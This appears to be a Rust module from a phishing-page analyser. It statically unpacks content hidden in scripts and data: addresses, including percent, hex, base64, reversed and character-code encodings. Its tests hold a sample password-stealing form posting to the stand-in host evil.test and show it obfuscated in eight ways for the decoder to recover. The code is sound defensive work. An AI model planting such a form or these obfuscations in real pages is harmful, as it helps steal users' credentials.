//! What a script would unpack: encoded texts are decoded, and where they are pages they are read as the page itself.
//!
//! Two layers and [`MOST`] bytes in all are unpacked; nothing is run.

use base64::{
    Engine,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

use super::{Page, literals, read};
use crate::look::Kind;

/// Something encoded that a page holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(in crate::look) enum Packed {
    /// A page in an attribute: not hidden, only inside.
    Document(String),
    /// A `data:` address that has not been unpacked yet.
    Address(String),
    /// One that was a page: how it begins.
    Unaddressed(String),
    /// A page in an encoded text of a script, and how it was encoded.
    Page(&'static str),
    /// A file in an encoded text of a script.
    File(Kind, usize),
    /// A long encoded text that is neither.
    Bytes(usize),
}

/// Bytes that are unpacked from one page, in all.
const MOST: usize = 2 * 1024 * 1024;
/// Bytes of an encoded text from which on it is looked at.
const SHORTEST: usize = 48;
/// Decoded bytes from which on they are told where they are nothing that is known.
const LONG: usize = 2048;
const LAYERS: usize = 2;

/// Unpacks all that is packed and reads what is a page.
pub(super) fn peel(page: &mut Page) {
    let mut budget = MOST;
    let mut done = 0;
    for _ in 0..LAYERS {
        let mut pages = Vec::new();
        let mut kept = Vec::new();
        for packed in std::mem::take(&mut page.packed) {
            match packed {
                Packed::Document(document) if budget >= document.len() => {
                    budget -= document.len();
                    pages.push((document, false));
                }
                Packed::Address(address) => {
                    if let Some((html, is_page)) = of_address(&address, &mut budget) {
                        if is_page {
                            pages.push((html, true));
                        }
                        kept.push(Packed::Unaddressed(super::super::quote::shown(&address, 40)));
                    }
                }
                other => kept.push(other),
            }
        }
        page.packed = kept;
        let script = page.script.get(done..).unwrap_or_default();
        let (found, written) = of_script(script, &mut budget);
        done = page.script.len();
        page.packed.extend(found);
        pages.extend(written.into_iter().map(|html| (html, true)));
        if pages.is_empty() {
            return;
        }
        for (html, was_packed) in pages {
            read::read(&html, page, was_packed);
        }
    }
}

/// The text behind a `data:` address that is a page.
fn of_address(address: &str, budget: &mut usize) -> Option<(String, bool)> {
    let (head, data) = address.get(5..)?.split_once(',')?;
    let head = head.to_ascii_lowercase();
    let is_page =
        head.starts_with("text/html") || head.starts_with("image/svg") || head.starts_with("application/xhtml");
    if !is_page {
        return None;
    }
    let data = data.get(..data.floor_char_boundary(*budget))?;
    *budget -= data.len();
    let plain = percent(data);
    let text = if head.ends_with(";base64") { text_of(&base64(&plain)?) } else { plain };
    Some((text, true))
}

/// What stands encoded in a script, and the pages among it.
fn of_script(script: &str, budget: &mut usize) -> (Vec<Packed>, Vec<String>) {
    let (mut found, mut pages) = (Vec::new(), Vec::new());
    let mut take = |bytes: Vec<u8>, how: &'static str| {
        if found.len() >= 32 {
            return;
        }
        let kind = Kind::of_magic(&bytes);
        let text = text_of(&bytes);
        match kind {
            Some(kind) if !matches!(kind, Kind::Picture | Kind::Media) => found.push(Packed::File(kind, bytes.len())),
            Some(_) => {}
            None if is_markup(&text) => {
                found.push(Packed::Page(how));
                pages.push(text);
            }
            None if bytes.len() >= LONG => found.push(Packed::Bytes(bytes.len())),
            None => {}
        }
    };
    for literal in literals(script, SHORTEST) {
        if literal.text.len() > *budget {
            break;
        }
        if let Some((bytes, how)) = decoded(&literal.text) {
            *budget -= literal.text.len();
            take(bytes, how);
        } else if literal.was_escaped && is_markup(&literal.text) {
            *budget -= literal.text.len();
            take(literal.text.into_bytes(), "in escapes");
        }
    }
    for numbers in numbers(script) {
        if numbers.len() <= *budget {
            *budget -= numbers.len();
            take(numbers, "in numbers");
        }
    }
    (found, pages)
}

/// An encoded text, undone; `None` where it is a usual one.
fn decoded(text: &str) -> Option<(Vec<u8>, &'static str)> {
    let bare = text.trim();
    if bare.len() < SHORTEST {
        return None;
    }
    if bare.matches('%').count() * 12 >= bare.len() && bare.contains("%3") {
        let once = percent(bare);
        let twice = if once.contains("%3") { percent(&once) } else { once };
        return Some((twice.into_bytes(), "in percent signs"));
    }
    let only = |known: fn(&u8) -> bool| bare.bytes().all(|byte| known(&byte));
    if bare.len().is_multiple_of(2) && only(u8::is_ascii_hexdigit) {
        return Some((hex(bare), "in hexadecimal digits"));
    }
    // Words without a blank are texts too, but hardly so long ones without any mark.
    if only(|byte| byte.is_ascii_alphanumeric() || b"+/=-_\r\n".contains(byte))
        && let Some(bytes) = base64(bare)
    {
        // Base64 in base64 is decoded once more.
        let text = std::str::from_utf8(&bytes).ok();
        let again = text.filter(|text| text.len() >= SHORTEST && !is_markup(text)).and_then(decoded_again);
        return Some((again.unwrap_or(bytes), "in base64"));
    }
    let backwards: String = bare.chars().rev().collect();
    if is_markup(&backwards) && !is_markup(bare) {
        return Some((backwards.into_bytes(), "backwards"));
    }
    None
}

fn decoded_again(text: &str) -> Option<Vec<u8>> {
    let bare = text.trim();
    if bare.contains("%3") && bare.matches('%').count() * 12 >= bare.len() {
        return Some(percent(bare).into_bytes());
    }
    bare.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte)).then(|| base64(bare)).flatten()
}

/// Runs of 48 and more numbers below 256 (`String.fromCharCode(60, 104, …)`, arrays of bytes).
fn numbers(script: &str) -> Vec<Vec<u8>> {
    let (mut found, mut run, mut number) = (Vec::new(), Vec::new(), None::<u32>);
    let mut end = |run: &mut Vec<u8>| {
        if run.len() >= SHORTEST && found.len() < 8 {
            found.push(std::mem::take(run));
        }
        run.clear();
    };
    for byte in script.bytes().chain([b';']) {
        match byte {
            b'0'..=b'9' => number = Some(number.unwrap_or(0).saturating_mul(10).saturating_add(u32::from(byte - b'0'))),
            b',' | b' ' | b'\n' | b'\r' | b'\t' => {
                if let Some(known) = number.take() {
                    match u8::try_from(known) {
                        Ok(value) => run.push(value),
                        Err(_) => end(&mut run),
                    }
                }
            }
            _ => {
                if let Some(value) = number.take().and_then(|known| u8::try_from(known).ok()) {
                    run.push(value);
                }
                end(&mut run);
            }
        }
    }
    found
}

/// Whether a text is a page or a piece of one.
fn is_markup(text: &str) -> bool {
    const TAGS: [&str; 12] = [
        "<html",
        "<form",
        "<input",
        "<body",
        "<script",
        "<iframe",
        "<div",
        "<!doctype",
        "<meta",
        "<style",
        "<head",
        "<svg",
    ];
    if !text.contains('<') {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    TAGS.iter().any(|tag| lower.contains(tag))
}

fn text_of(bytes: &[u8]) -> String {
    crate::message::page_text(Some("utf-8"), bytes).into_owned()
}

pub(in crate::look) fn percent(text: &str) -> String {
    let (mut out, mut rest) = (Vec::with_capacity(text.len()), text.as_bytes());
    while let Some((byte, behind)) = rest.split_first() {
        let digits = |digits: Option<&[u8]>| {
            u32::from_str_radix(
                std::str::from_utf8(digits?).ok().filter(|text| text.bytes().all(|byte| byte.is_ascii_hexdigit()))?,
                16,
            )
            .ok()
        };
        if *byte == b'%' {
            if let Some(value) = digits(behind.get(..2)).and_then(|value| u8::try_from(value).ok()) {
                out.push(value);
                rest = behind.get(2..).unwrap_or_default();
                continue;
            }
            // What `escape` writes for characters beyond Latin 1.
            if behind.first() == Some(&b'u')
                && let Some(c) = digits(behind.get(1..5)).and_then(char::from_u32)
            {
                out.extend(c.encode_utf8(&mut [0; 4]).bytes());
                rest = behind.get(5..).unwrap_or_default();
                continue;
            }
        }
        out.push(*byte);
        rest = behind;
    }
    text_of(&out)
}

fn hex(text: &str) -> Vec<u8> {
    let digit = |byte: u8| char::from(byte).to_digit(16).unwrap_or(0) as u8;
    text.as_bytes().chunks(2).map(|pair| pair.iter().fold(0, |value, byte| value * 16 + digit(*byte))).collect()
}

/// As browsers' `atob` reads it, and in the alphabet of URLs too.
fn base64(text: &str) -> Option<Vec<u8>> {
    const LOOSE: GeneralPurpose = GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::Indifferent)
            .with_decode_allow_trailing_bits(true),
    );
    let usual = |byte: u8| match byte {
        b'-' => b'+',
        b'_' => b'/',
        byte => byte,
    };
    let bare: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).map(usual).collect();
    LOOSE.decode(bare).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(script: &str) -> (Vec<Packed>, Vec<String>) {
        of_script(script, &mut MOST.clone())
    }

    const FORM: &str = "<form action=//evil.test><input type=password name=p></form>";

    #[test]
    fn pages_are_unpacked_however_they_are_encoded() {
        let hex: String = FORM.bytes().map(|byte| format!("{byte:02x}")).collect();
        let percent: String = FORM.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let escapes: String = FORM.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
        let numbers: Vec<String> = FORM.bytes().map(|byte| byte.to_string()).collect();
        let base64 = base64::engine::general_purpose::STANDARD.encode(FORM);
        let twice = base64::engine::general_purpose::STANDARD.encode(&base64);
        let backwards: String = FORM.chars().rev().collect();
        for script in [
            format!("document.write(unescape('{percent}'))"),
            format!("document.write('{escapes}')"),
            format!("x=atob(\"{base64}\")"),
            format!("x=atob(\"{}\"+\n'{}')", &base64[..20], &base64[20..]),
            format!("x=atob(atob(`{twice}`))"),
            format!("x=h('{hex}')"),
            format!("String.fromCharCode({})", numbers.join(", ")),
            format!("'{backwards}'.split('').reverse()"),
        ] {
            assert_eq!(of(&script).1, [FORM], "{script}");
        }
        assert_eq!(of("var a = 'an ordinary sentence of some length, which is no code at all'").0, []);
        assert_eq!(of("'abcdefghijklmnopqrstuvwxyz'").0, []);
    }

    #[test]
    fn files_are_known_by_their_magic() {
        let program = base64::engine::general_purpose::STANDARD.encode([b"MZ\x90\0".as_slice(), &[0; 80]].concat());
        assert_eq!(of(&format!("f('{program}')")).0, [Packed::File(Kind::Program, 84)]);
        let bytes = base64::engine::general_purpose::STANDARD.encode([0xfb; 4000]);
        assert_eq!(of(&format!("f('{bytes}')")).0, [Packed::Bytes(4000)]);
        let picture =
            base64::engine::general_purpose::STANDARD.encode([b"\x89PNG\r\n\x1a\n".as_slice(), &[7; 4000]].concat());
        assert_eq!(of(&format!("f('{picture}')")).0, []);
    }
}
